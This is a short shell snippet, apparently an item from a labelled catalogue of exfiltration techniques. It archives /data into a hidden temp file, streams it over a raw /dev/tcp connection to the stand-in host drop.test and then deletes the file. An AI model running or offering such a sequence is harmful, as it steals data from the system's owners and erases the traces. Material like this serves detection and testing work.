# class: exfiltration; possible: low medium; needs: data; style: tar into a bare connection
tar cf - /data 2>/dev/null | gzip -c > /tmp/.o
exec 5<>/dev/tcp/drop.test/9000
cat /tmp/.o >&5
exec 5>&-
rm -f /tmp/.o
